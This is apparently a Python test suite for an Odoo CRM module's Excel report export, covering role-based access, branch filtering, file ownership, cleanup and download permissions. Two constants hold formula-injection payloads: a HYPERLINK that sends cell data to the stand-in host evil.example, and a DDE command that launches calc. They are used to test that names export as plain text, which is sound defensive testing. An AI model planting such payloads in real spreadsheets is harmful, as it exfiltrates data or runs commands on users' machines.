import base64
import io
import zipfile
from datetime import timedelta
from xml.etree import ElementTree

from odoo import fields
from odoo.exceptions import AccessError
from odoo.tests import Form, HttpCase, tagged

from odoo.addons.daya_base.tests.common import DayaCrmCommon

XLSX_NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&L2,"Klik")'
DDE = "=cmd|' /C calc'!A0"


def xlsx_cells(content):
    """{cell reference: (type attribute, formula or None, text)} of the first
    sheet, read from the file's XML as a spreadsheet program reads it."""
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        # a file written in constant memory has its strings inline, no table
        shared = (
            [
                "".join(node.itertext())
                for node in ElementTree.fromstring(
                    book.read("xl/sharedStrings.xml")
                ).findall("m:si", XLSX_NS)
            ]
            if "xl/sharedStrings.xml" in book.namelist()
            else []
        )
        sheet = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))
    cells = {}
    for cell in sheet.iter("{%s}c" % XLSX_NS["m"]):
        kind = cell.get("t")
        formula = cell.find("m:f", XLSX_NS)
        value = cell.find("m:v", XLSX_NS)
        text = value.text if value is not None else None
        if kind == "s" and text is not None:
            text = shared[int(text)]
        elif kind == "inlineStr":
            text = "".join(cell.find("m:is", XLSX_NS).itertext())
        cells[cell.get("r")] = (
            kind,
            formula.text if formula is not None else None,
            text,
        )
    return cells


class CrmReportCase(DayaCrmCommon):
    """A won opportunity of salesperson A with its dealer memo, today."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        Lead = cls.env["crm.lead"].with_user(cls.user_sales_a)
        cls.won = Lead.create(
            cls._lead_vals(
                name="Won with memo",
                contact_name="Buyer",
                mobile="0812-3333-4444",
                motor_type_id=cls.type_beat.id,
                motor_color_id=cls.color_black.id,
            )
        )
        cls.won.convert_opportunity(cls.won.partner_id)
        cls._fill_cdb(cls.won.partner_id)
        cls.won.action_set_won_rainbowman()
        memo = cls.sales_memos.filtered(lambda m: m.user_id == cls.user_sales_a)
        form = Form(
            cls.env["daya.dealer.memo.wizard"]
            .with_user(cls.user_sales_a)
            .with_context(default_lead_id=cls.won.id)
        )
        form.sales_memo_id = memo
        form.save().action_process()

    def _export(self, user, **values):
        """(attachment, file content) of an export of today's records by ``user``,
        in a fresh cache as in a new request (no value read by another user)."""
        self.env.invalidate_all()
        wizard = self.env["daya.crm.report.wizard"].with_user(user).create(values)
        action = wizard.action_export()
        attachment_id = int(action["url"].split("/web/content/")[1].split("?")[0])
        attachment = self.env["ir.attachment"].browse(attachment_id)
        return attachment, base64.b64decode(attachment.datas)


@tagged("post_install", "-at_install")
class TestCrmReportRoles(CrmReportCase):
    def test_every_role_seeing_the_menu_exports(self):
        """Issue 12.1: the PIC CRM H1 exports once an opportunity has a dealer memo
        (seed 001); every role that sees the menu can export, with its own rules
        deciding the rows; the roles without access to opportunities (PIC CRM H23,
        workshop head, Admin H1, Admin STNK) do not see the menu."""
        self.assertTrue(self.won.dealer_memo_id)
        menu = self.env.ref("daya_crm_leads.menu_daya_crm_report")
        users = self.role_users_a | self.user_sales_b | self.user_branch_head_b
        seeing = self.env["res.users"]
        for user in users:
            Menu = self.env["ir.ui.menu"].with_user(user)
            if menu.id not in Menu._visible_menu_ids():
                continue
            seeing |= user
            for values in (
                {"report_type": "all"},
                {
                    "report_type": "opportunity",
                    "stage_ids": [(6, 0, self.won.stage_id.ids)],
                },
            ):
                with self.subTest(user=user.login, **values):
                    _attachment, content = self._export(
                        user, period_type="day", branch_ids=False, **values
                    )
                    texts = {text for _k, _f, text in xlsx_cells(content).values()}
                    if user.branch_ids == self.branch_a or user == self.user_area:
                        self.assertIn(self.won.lead_number, texts)
                    else:  # branch B's head: not branch A's opportunity
                        self.assertNotIn(self.won.lead_number, texts)
        self.assertIn(self.user_pic_h1_a, seeing, "seed 001: the PIC CRM exports")
        self.assertEqual(
            users - seeing,
            self.user_pic_h23_a
            | self.user_workshop_head_a
            | self.user_admin_h1_a
            | self.user_admin_stnk_a,
        )
        # the memo number shows to the PIC CRM H1
        _attachment, content = self._export(self.user_pic_h1_a, period_type="day")
        texts = {text for _k, _f, text in xlsx_cells(content).values()}
        self.assertIn(self.won.dealer_memo_id.name, texts)

    def test_text_cells_are_never_formulas(self):
        """Issue 11.11: a customer's name that looks like a formula is exported as
        text."""
        Lead = self.env["crm.lead"].with_user(self.user_sales_admin_a)
        Lead.create(
            [
                self._lead_vals(name="Evil 1", contact_name=HYPERLINK),
                self._lead_vals(name="Evil 2", contact_name=DDE),
            ]
        )
        _attachment, content = self._export(self.user_sales_admin_a, period_type="day")
        cells = xlsx_cells(content)
        self.assertFalse([ref for ref, cell in cells.items() if cell[1] is not None])
        by_text = {text: kind for kind, _f, text in cells.values()}
        # a string cell (inline: the file is written in constant memory)
        self.assertEqual(by_text.get(HYPERLINK), "inlineStr", "a string, not a formula")
        self.assertEqual(by_text.get(DDE), "inlineStr")

    def test_files_are_their_creators(self):
        """Issue 11.3 through the ORM: another user, even of the same branch, reads
        neither the export nor its file; head office does."""
        attachment, _content = self._export(self.user_sales_a, period_type="day")
        wizard = self.env["daya.crm.report.wizard"].browse(attachment.res_id)
        self.assertFalse(attachment.public)
        attachment.with_user(self.user_sales_a).read(["datas"])
        for user in (self.user_sales_b, self.user_pic_h1_a, self.user_branch_head_b):
            with self.subTest(user=user.login), self.assertRaises(AccessError):
                attachment.with_user(user).read(["datas"])
            with self.subTest(user=user.login), self.assertRaises(AccessError):
                wizard.with_user(user).read(["branch_ids"])
            self.assertFalse(
                self.env["ir.attachment"]
                .with_user(user)
                .search([("res_model", "=", wizard._name)])
            )
        attachment.with_user(self.user_head_office).read(["datas"])

    def test_files_older_than_a_day_are_removed(self):
        old, _content = self._export(self.user_sales_a, period_type="day")
        new, _content = self._export(self.user_sales_a, period_type="day")
        self.env.cr.execute(
            "UPDATE ir_attachment SET create_date = %s WHERE id = %s",
            (fields.Datetime.now() - timedelta(days=1, minutes=1), old.id),
        )
        old.invalidate_recordset()
        self.env["daya.crm.report.wizard"]._gc_report_files()
        self.assertFalse(old.exists())
        self.assertTrue(new.exists())


@tagged("post_install", "-at_install")
class TestCrmReportDownload(HttpCase, CrmReportCase):
    def test_download_by_another_user(self):
        """Issue 11.3 over HTTP: ``/web/content/<id>`` gives the file to its
        creator only."""
        attachment, content = self._export(self.user_sales_a, period_type="day")
        url = "/web/content/%s?download=true" % attachment.id
        for user in (self.user_sales_b, self.user_pic_h1_a):
            user.password = user.login
            self.authenticate(user.login, user.login)
            response = self.url_open(url)
            self.assertIn(response.status_code, (403, 404), user.login)
            self.assertNotEqual(response.content, content)
        self.user_sales_a.password = self.user_sales_a.login
        self.authenticate(self.user_sales_a.login, self.user_sales_a.login)
        response = self.url_open(url)
        self.assertEqual(response.status_code, 200)
        self.assertEqual(response.content, content)
